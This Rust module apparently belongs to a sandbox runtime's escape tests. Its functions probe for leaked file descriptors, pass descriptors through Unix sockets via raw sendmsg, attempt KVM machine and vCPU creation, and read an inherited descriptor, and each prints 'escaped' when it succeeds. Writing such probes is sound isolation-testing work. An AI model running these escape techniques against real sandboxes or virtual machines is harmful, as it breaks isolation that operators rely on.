//! Attacks by descriptors of the runtime's, and of the virtual machine's above all.

use super::call;

/// Descriptors of the runtime's in a structure.
pub fn descriptor() {
    let numbers = others(0x1_0400);
    for some in numbers.chunks(256) {
        let entry = |number: &i32| libc::pollfd { fd: *number, events: libc::POLLIN, revents: 0 };
        let mut entries: Vec<_> = some.iter().map(entry).collect();
        // SAFETY: the call writes to the entries.
        let result = unsafe { libc::poll(entries.as_mut_ptr(), entries.len() as u64, 0) };
        let found = entries.iter().find(|entry| entry.revents & libc::POLLNVAL == 0);
        if let (true, Some(found)) = (result >= 0, found) {
            println!("escaped: {} is there for poll(2)", found.fd);
            break;
        }
    }
}

/// Numbers below `end` that the program has no descriptors for, as far as it is told.
fn others(end: i32) -> Vec<i32> {
    let listed: Vec<i32> = std::fs::read_dir("/proc/self/fd").map_or(Vec::new(), |list| {
        list.flatten().filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
    });
    (0..end).filter(|number| !listed.contains(number)).collect()
}

/// Sends itself a descriptor of the runtime's, which comes back by a number of its own.
pub fn passed() {
    let pair = pair();
    for number in others(4096) {
        let Some(got) = through(pair, number) else { continue };
        println!("escaped: {number} came as {got}, {:?}", std::fs::read_link(format!("/proc/self/fd/{got}")));
        break;
    }
}

fn pair() -> [i32; 2] {
    let mut pair = [0; 2];
    // SAFETY: the call writes two numbers.
    unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_STREAM, 0, pair.as_mut_ptr()) };
    pair
}

/// Sends `number`; the number by which it comes.
fn through(pair: [i32; 2], number: i32) -> Option<i32> {
    let mut byte = [b'x'];
    let parts = [[byte.as_mut_ptr() as u64, 1]];
    let control = [20u64, 1 | 1 << 32, number as u64];
    let header = [0, 0, parts.as_ptr() as u64, 1, control.as_ptr() as u64, 20, 0];
    let sent = call(libc::SYS_sendmsg as u64, [pair[0] as u64, header.as_ptr() as u64, 0, 0, 0, 0]);
    if sent < 0 {
        return None;
    }
    let mut room = [0u64; 8];
    let into = [0, 0, parts.as_ptr() as u64, 1, room.as_mut_ptr() as u64, 64, 0];
    call(libc::SYS_recvmsg as u64, [pair[1] as u64, into.as_ptr() as u64, 0, 0, 0, 0]);
    Some(std::hint::black_box(room)[2] as i32)
}

/// A processor of the virtual machine that it runs in, or a machine of its own: whoever has one chooses what runs at ring 0 there.
pub fn machine() {
    const KVM_CREATE_VM: u64 = 0xae01;
    const KVM_CREATE_VCPU: u64 = 0xae41;
    /// A number that no thread's processor has.
    const NUMBER: u64 = 200;
    let request = |descriptor: i32, request: u64, argument: u64| {
        call(libc::SYS_ioctl as u64, [descriptor as u64, request, argument, 0, 0, 0])
    };
    // SAFETY: the call reads the path.
    let opened = unsafe { libc::open(c"/dev/kvm".as_ptr(), libc::O_RDWR) };
    let made = request(opened, KVM_CREATE_VM, 0);
    if made >= 0 {
        println!("escaped: a machine of its own, {made}");
    }
    let pair = pair();
    for number in others(4096) {
        // By the runtime's number, and by one of its own.
        let got = through(pair, number);
        for descriptor in [Some(number), got].into_iter().flatten() {
            let made = request(descriptor, KVM_CREATE_VCPU, NUMBER);
            if made >= 0 {
                println!("escaped: a processor of the machine {number}, {made}");
                return;
            }
        }
        if let Some(got) = got {
            call(libc::SYS_close as u64, [got as u64, 0, 0, 0, 0, 0]);
        }
    }
}

/// A file that the launcher has open by this number.
pub fn inherited() {
    let mut bytes = [0u8; 16];
    // SAFETY: the call writes to the bytes.
    let read = unsafe { libc::pread(50, bytes.as_mut_ptr().cast(), bytes.len(), 0) };
    if read > 0 {
        println!("escaped: {}", String::from_utf8_lossy(&bytes[..read as usize]).trim_end());
    }
}
